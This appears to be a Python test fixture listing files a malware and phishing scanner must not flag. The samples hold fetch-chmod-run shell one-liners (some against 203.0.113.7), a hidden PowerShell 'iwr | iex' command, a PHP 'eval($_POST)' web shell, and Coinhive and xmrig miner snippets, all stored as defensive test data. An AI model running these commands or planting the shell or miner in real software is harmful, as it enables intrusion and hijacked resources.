"""Legitimate files that resemble malicious ones: the rules must not match them."""

from __future__ import annotations

import struct
import zlib

from tests.runtime.scan import samples
from tests.runtime.scan.samples import EICAR, MICROSOFT_LOGO, login_page, wasm


def png(text: bytes) -> bytes:
    """A whole image of one pixel, with a text in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixel = zlib.compress(b"\0\xff\0\0")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (chunk(b"IHDR", header), chunk(b"tEXt", b"Comment\0" + text), chunk(b"IDAT", pixel), chunk(b"IEND", b""))
    )


BLOG_ABOUT_MINERS = b"""<!doctype html><html><head><title>How Coinhive worked</title></head><body><article>
<p>Sites loaded coinhive.com/lib/coinhive.min.js and mined cryptonight over a WebSocket, or with xmrig on a server:</p>
<pre><code>&lt;script src="https://coinhive.com/lib/coinhive.min.js"&gt;&lt;/script&gt;
&lt;script&gt; var miner = new CoinHive.Anonymous('abcdefghijklmnop'); miner.start(); &lt;/script&gt;
xmrig -o stratum+tcp://pool.example.com:3333 -u wallet</code></pre>
<p><a href="https://coinhive.com/">coinhive.com</a> closed in 2019.</p></article>
<script src="/assets/site.js"></script><script>document.title += ""; new Menu("top").start();</script></body></html>"""

DOCS_WITH_CURL = b"""<!doctype html><html><body><h1>Install</h1>
<pre>curl -fsSL https://get.example.com/install.sh | sh</pre>
<pre>cd /tmp; wget http://203.0.113.7/app; chmod +x app; ./app; rm -rf app</pre>
<pre>powershell -WindowStyle Hidden -c "iwr https://get.example.com/install.ps1 | iex"</pre>
<script>for (const b of document.querySelectorAll("button")) b.onclick = () =>
  navigator.clipboard.writeText(b.nextSibling.textContent);</script></body></html>"""

INSTALLER = b"""#!/bin/sh
set -eu
base="https://downloads.example.com/releases"
work=$(mktemp -d); trap 'rm -rf "$work"' EXIT
cd /tmp
curl --proto '=https' -fsSL "$base/tool-$(uname -m).tar.gz" -o "$work/tool.tgz"
tar -xzf "$work/tool.tgz" -C "$work"; chmod +x "$work/tool"; mv "$work/tool" "$HOME/.local/bin/"
"""

LOCAL_DEMO = b"""#!/bin/bash
cd /tmp && curl -O http://192.168.1.10/demo && chmod +x demo && ./demo; rm -f demo
curl http://127.0.0.1:8080/health
"""

INSTALLER_PS1 = b"""$url = 'https://downloads.example.com/tool.zip'
(New-Object Net.WebClient).DownloadFile($url, "$env:TEMP\\tool.zip")
Invoke-WebRequest $url -OutFile tool.zip; Expand-Archive tool.zip
"""

OLD_JQUERY = b"""(function(w){function xhr(){try{return new w.XMLHttpRequest}catch(e){}
try{return new w.ActiveXObject("Microsoft.XMLHTTP")}catch(e){}}w.xhr=xhr;w.Run=1})(window);"""

MINIFIED_REACT = (
    b"/** @license React */(function(){'use strict';var l=Symbol.for(\"react.element\");"
    b"function M(a,b,e){var d,c={},k=null,h=null;if(null!=b)for(d in void 0!==b.ref&&(h=b.ref),b)c[d]=b[d];"
    b'return{$$typeof:l,type:a,key:k,ref:h,props:c}}exports.createElement=M;eval("1");'
    b'new Worker("w.js");new WebSocket("wss://live.example/");'
    b"var nonce=document.currentScript.nonce,sitekey='public';})();" * 200
)

# A post that quotes a miner, compiled by a documentation generator.
COMPILED_POST = b"""(self.c=self.c||[]).push([[42],{1:(e,n,t)=>{const o=(0,t._jsx)("pre",{children:
"var m=new CoinHive.Anonymous('abcdefghijklmnop');m.start(); // <script src='https://coinhive.com/lib/coinhive.min.js'>"})}}]);"""

SEARCH_INDEX = b"""{"docs":[
{"title":"Mining","text":"stratum+tcp://pool.example.com:3333 xmrig new CoinHive.User('a')"},
{"title":"Shells","text":"<?php eval($_POST['cmd']); ?> and <script src=https://coinhive.com/lib/coinhive.min.js>"}]}"""

SECURITY_POST = b"""# Web shells
```php
<?php @eval($_POST['cmd']); ?>
```
The kit mailed `"Password: ".$_POST['pass']` to its owner, and hid
from PhishTank, Netcraft and Kaspersky (HTTP_USER_AGENT).
"""

PHP_SOURCE = b"""<?php
// An honest login: nothing is sent away, nothing is run.
$user = find_user($_POST['email']);
if (!password_verify($_POST['password'], $user->hash)) { exit('no'); }
log_attempt($_SERVER['REMOTE_ADDR']); $result = exec('git rev-parse HEAD'); mail($user->email, 'Welcome back', $text);
"""

CONTACT_FORM = """<html><body><form id="c"><input id="n"><textarea id="t"></textarea></form>
<form action="/login" method="post"><input type="password" name="password"></form><script>
const text = `Name: ${n.value}\\nMessage: ${t.value}`;
fetch("https://api.telegram.org/botTOKEN/sendMessage", {method: "POST", body: JSON.stringify({chat_id: 1, text})});
</script></body></html>""".replace("TOKEN", samples.TOKEN).encode()

DONATION = b"""<form action="https://www.paypal.com/donate" method="post"><input name="hosted_button_id" value="X">
<input type="image" src="https://www.paypalobjects.com/en_US/i/btn/btn_donate_LG.gif"></form>"""

HARMLESS: dict[str, bytes] = {
    "index.html": b"<!doctype html><title>Harbor</title><h1>Hello</h1>",
    "empty.txt": b"",
    "one-byte": b"M",
    "mz.txt": b"MZ is how a program of DOS begins, and PE\0\0 is what follows." + bytes(100),
    "elf.txt": b"ELF, after the byte \x7f, is how a program begins: \x7fELF",
    "image.png": png(b"MZ" + bytes(200) + b"PE\0\0" + samples.elf()),
    "photo.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"MZ\x90\0" * 50 + b"\xff\xd9",
    "font.woff2": b"wOF2\0\x01\0\0" + bytes(range(256)),
    "app.wasm": wasm("memory", "_start", "sha256_hash", "cn_slow_hash"),
    "Main.class": samples.java_class(),
    "_framework/App.dll": samples.pe(is_dll=True, is_managed=True),
    "_framework/Lib.dll": samples.pe(is_dll=True, is_managed=True, is_64=True),
    "manual.pdf": b"%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n% MZ curl http://203.0.113.7/x | sh\n%%EOF",
    "main.js.map": b'{"version":3,"sourcesContent":["new CoinHive.Anonymous(\\"abcdefghijklmnop\\").start()"]}',
    "maps.zip": b"PK\x03\x04" + bytes(26) + b"main.js.map",
    "eicar.html": b"<p>The test file is <code>" + EICAR + b"</code>, 68 bytes.</p>",
    "eicar.md": EICAR + b"\n" + b"This line, alone in a file, is what scanners are tested with. " * 3,
    "blog/miners.html": BLOG_ABOUT_MINERS,
    "assets/42.js": COMPILED_POST,
    "search_index.json": SEARCH_INDEX,
    "search_index.js": b"var index = " + SEARCH_INDEX,
    "posts/shells.md": SECURITY_POST,
    "docs/install.html": DOCS_WITH_CURL,
    "install.sh": INSTALLER,
    "demo.sh": LOCAL_DEMO,
    "install.ps1": INSTALLER_PS1,
    "jquery.js": OLD_JQUERY,
    "react.min.js": MINIFIED_REACT,
    "login.php": PHP_SOURCE,
    "login.html": login_page("Log in – Harbor", "/login"),
    "relative.html": login_page("Log in", "login.php"),
    "account.html": login_page("Harbor: sign in", "https://auth.harbor.example/login"),
    "paypal.html": login_page("PayPal: Log in", "https://www.paypal.com/signin"),
    "with-google.html": login_page("Sign in with Google | Harbor", "https://auth.harbor.example/login"),
    "netflix-clone.html": login_page("Netflix - Sign In (clone)", "login.php"),
    "orchard.html": login_page("Apple Orchard: log in", "https://auth.orchard.example/login"),
    "steam.html": login_page("Steam Cleaning Leeds – Sign in", "https://auth.steam-leeds.example/login"),
    "log-in-with.html": login_page("Log in with GitHub or Google – Harbor", "https://auth.harbor.example/login"),
    "instagram.html": login_page("Instagram", "login.php"),
    "instagram-local.html": login_page("Instagram", "http://localhost:5000/login"),
    "google.html": login_page("Verify your account – Harbor for Google", "/login"),
    "own-microsoft.html": login_page("Sign in", "/session", extra=MICROSOFT_LOGO),
    "facebook-app.html": login_page("Facebook - log in or sign up", "#"),
    "contact.html": CONTACT_FORM,
    "donate.html": DONATION + login_page("Harbor", "/login"),
    ".htaccess": b"RewriteEngine on\nRewriteCond %{HTTP_USER_AGENT} badbot [NC]\nRewriteRule .* - [F,L]\n",
    "robots.txt": b"User-agent: *\nDisallow: /admin\n",
}
